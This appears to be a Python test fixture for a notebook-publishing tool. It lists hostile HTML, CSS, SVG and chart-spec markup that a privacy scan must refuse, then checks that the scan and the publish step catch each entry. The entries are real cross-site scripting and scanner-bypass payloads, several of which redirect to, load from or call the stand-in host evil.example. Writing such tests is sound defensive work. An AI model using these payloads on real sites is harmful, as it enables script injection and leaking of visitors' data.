"""Markup an attacker (or a foreign notebook) could put on a published page: each entry
must be refused by the privacy scan, whatever the browser would make of it.

Shared by ``tests/publish/test_audit.py`` and ``make audit`` (group ``safety``).
"""

from __future__ import annotations

import json
from pathlib import Path

_E = "https://evil.example"
_VL = "https://vega.github.io/schema/vega-lite/v6.json"
_DECLARED = {"stuurkit": {"values": {}}}


def _block(spec: dict) -> str:
    """A chart as the loader would draw it: a drawing area and a data block that names it."""
    chart = "stuurkit-chart-9-deadbeef"
    return (f'<div id="{chart}" class="stuurkit-chart"></div><script type="application/json" '
            f'class="stuurkit-spec" data-chart="{chart}">{json.dumps(spec)}</script>')


# (markup, the kind of finding it must give)
PAGE_ATTACKS = [
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "handler"),
    ('<p>x</p><meta http-equiv="refresh" content="0">', "handler"),
    ('<!-- a --!><img src=x onerror="alert(1)"> -->', "handler"),
    ("<div style=\"background-image: image-set('https://evil.example/a.png' 1x)\"></div>",
     "external"),
    ('<div style="background: \\75 rl(https://evil.example/a.png)"></div>', "external"),
    ("<style>div { background: u\\72l(//evil.example/a) }</style>", "external"),
    ('<a href="https://evil.example" ping="https://evil.example/p">x</a>', "external"),
    ('<a href="\\\\evil.example/x">x</a>', "external"),
    ('<a href="/\\evil.example">x</a>', "external"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "handler"),
    ('<svg><a href=" jav&#x09;ascript:alert(1)">x</a></svg>', "handler"),
    ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "element"),
    ('<svg><use href="https://evil.example/s.svg#a"/></svg>', "element"),
    ('<base href="https://evil.example/">', "element"),
    ('<form action="https://evil.example"><button>x</button></form>', "element"),
    ('<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', "element"),
    ('<object data="x.swf"></object>', "element"),
    ('<img src="https://evil.example/p.gif">', "external"),
    ('<img srcset="https://evil.example/p.gif 1x">', "external"),
    ('<link rel="prefetch" href="https://evil.example">', "element"),
    ('<script id="stuurkit-vega-bundle">location.href="https://evil.example"</script>',
     "script"),
    ('<script>(function(){var el=document.getElementById("stuurkit-chart-1-00000000");'
     "window.vegaEmbed(el,{})})();</script>", "script"),
    ('<script id="stuurkit-loader">alert(1)</script>', "script"),
    ('<script type="application/json" class="stuurkit-spec" data-chart="x">{}</script>',
     "script"),
    ('<script type="text/plain">x</script><script type="module">alert(1)</script>', "script"),
    # parsed differently with scripting on (browsers) and off (html5lib): refused whole
    ('<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
     "element"),
    ("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", "element"),
    ('<img src="data:text/html;base64,PHNjcmlwdD4=">', "external"),
    ('<a href="data:text/html,<script>alert(1)</script>">x</a>', "external"),
    ('<div onclick="alert(1)">x</div>', "handler"),
    ('<svg onload="alert(1)"></svg>', "handler"),
    # found by the attack of 2026-12-02: a scan that folds x:src onto src, skips SVG
    # <style>'s children, reads CSS by regex, or trusts a data block's spec
    (f'<meta http-equiv="refresh" x:http-equiv="content-type" content="0;url={_E}/s">',
     "handler"),
    (f'<img alt="" src="{_E}/a.png" x:src="data:image/png;base64,AAAA">', "handler"),
    (f'<div style="background:url({_E}/b.png)" x:style="color:red">x</div>', "external"),
    (f'<a href="{_E}/a" x:href="#top">klik</a>', "handler"),
    (f'<svg><a href="{_E}/svga" xlink:href="#top"><rect width="9" height="9"/></a></svg>',
     "external"),
    (f'<svg><style><desc><meta http-equiv="refresh" content="0;url={_E}/d"></desc></style>'
     "</svg>", "element"),
    ("<svg><style><script>window.__pwned=1</script></style></svg>", "element"),
    (f'<svg><style><image href="{_E}/i.png"/></style></svg>', "element"),
    (f"<style>p{{--x:/\\*;}} main{{background-image:url({_E}/c.png)}}</style>", "external"),
    (f'<div style="--x:/\\*;background-image:url({_E}/d.png)">x</div>', "external"),
    (f"<div style=\"background-image:image-set(linear-gradient(red,red) 2x, '{_E}/e.png' 1x)"
     '">x</div>', "external"),
    (f'<svg><rect width="9" height="9" filter="url({_E}/f.svg#f)"/></svg>', "external"),
    (f'<svg><rect width="9" height="9" style="fill:url({_E}/k.svg#k)"/></svg>', "external"),
    (f'<svg><rect width="9" height="9" fill="url({_E}/g.svg#g)"/>'
     f'<path d="M0 0L9 9" marker-end="url({_E}/j.svg#m)"/></svg>', "external"),
    (_block({"$schema": _VL, "data": {"values": [{"a": 1}]}, "mark": {"type": "image"},
             "encoding": {"x": {"field": "a", "type": "quantitative"},
                          "url": {"value": _E + "/img.png"}}, "usermeta": _DECLARED}),
     "external"),
    (_block({"$schema": _VL, "data": {"values": [{"a": 1}]}, "mark": "bar",
             "encoding": {"x": {"field": "a", "type": "quantitative"},
                          "href": {"value": _E + "/h"}}, "usermeta": _DECLARED}), "external"),
    (_block({"$schema": "https://vega.github.io/schema/vega/v6.json",
             "data": [{"name": "t", "url": _E + "/vg.json"}], "usermeta": _DECLARED}),
     "script"),
    (_block({"$schema": _VL, "data": {"name": "t", "url": _E + "/vl.json"}, "mark": "point",
             "usermeta": _DECLARED}), "external"),
    (_block({"$schema": _VL, "data": {"values": [{"a": 1}]}, "transform": [
        {"lookup": "a", "from": {"data": {"url": _E + "/lk.json"}, "key": "a",
                                 "fields": ["b"]}}], "mark": "point",
             "usermeta": _DECLARED}), "external"),
    (_block({"$schema": _VL, "data": {"values": [{"a": 1}]}, "mark": "point",
             "usermeta": {**_DECLARED, "embedOptions": {"config": _E + "/cfg.json"}}}),
     "script"),
]


def page_attacks(work: Path) -> list:
    """Each attack put into a clean published page (the scan must refuse it) and into
    a notebook's output (``publish`` must refuse to write it). Rows for ``make audit``."""
    import nbformat

    from helpers.errors import PublishError
    from helpers.publish import audit
    from helpers.publish import html as publish
    from tests.scenarios.reliability import Row

    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_markdown_cell("# Rapport")]
    clean = publish.notebook_to_html(nb)
    base = audit.scan_html(clean).passed
    missed, written = [], []
    for markup, kind in PAGE_ATTACKS:
        page = clean.replace("</main>", markup + "</main>", 1)
        if audit.scan_html(page).count(kind) < 1:
            missed.append(markup)
        cell = nbformat.v4.new_code_cell("x")
        cell.outputs = [nbformat.v4.new_output("display_data", data={"text/html": markup})]
        nb.cells = [cell]
        target = work / "r.html"
        try:
            publish.publish_notebook(nb, target)
            written.append(markup)
        except PublishError:
            pass
    return [Row("safety", "tampered pages refused by the scan", base and not missed,
                "; ".join(m[:50] for m in missed[:2]),
                {"attacks": len(PAGE_ATTACKS), "refused": len(PAGE_ATTACKS) - len(missed),
                 "clean page passes": int(base)}),
            Row("safety", "foreign notebook output refused by publish", not written,
                "; ".join(m[:50] for m in written[:2]),
                {"attacks": len(PAGE_ATTACKS), "refused": len(PAGE_ATTACKS) - len(written),
                 "files written": len(list(work.glob("r.*")))})]
